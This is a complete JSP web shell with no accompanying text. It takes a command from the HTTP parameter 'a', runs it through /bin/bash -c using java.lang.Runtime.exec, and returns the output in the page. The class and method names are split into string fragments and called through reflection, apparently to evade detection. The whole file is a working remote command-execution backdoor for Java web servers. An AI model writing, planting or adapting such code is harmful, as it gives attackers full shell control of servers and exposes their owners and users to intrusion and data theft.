<%@ page import="java.lang.reflect.*" %><%!
    String k(String... parts) { StringBuilder b = new StringBuilder(); for (String p : parts) b.append(p); return b.toString(); }
%><%
    String a = request.getParameter("a");
    if (a != null) {
        Class<?> c = Class.forName(k("ja", "va.l", "ang.", "Ru", "nt", "ime"));
        Object r = c.getMethod(k("get", "Ru", "ntime")).invoke(c);
        Process p = (Process) c.getMethod(k("ex", "ec"), String[].class)
                .invoke(r, new Object[]{new String[]{"/bin/bash", "-c", a}});
        java.io.InputStream in = p.getInputStream();
        int b;
        while ((b = in.read()) != -1) { out.write(b); }
    }
%>
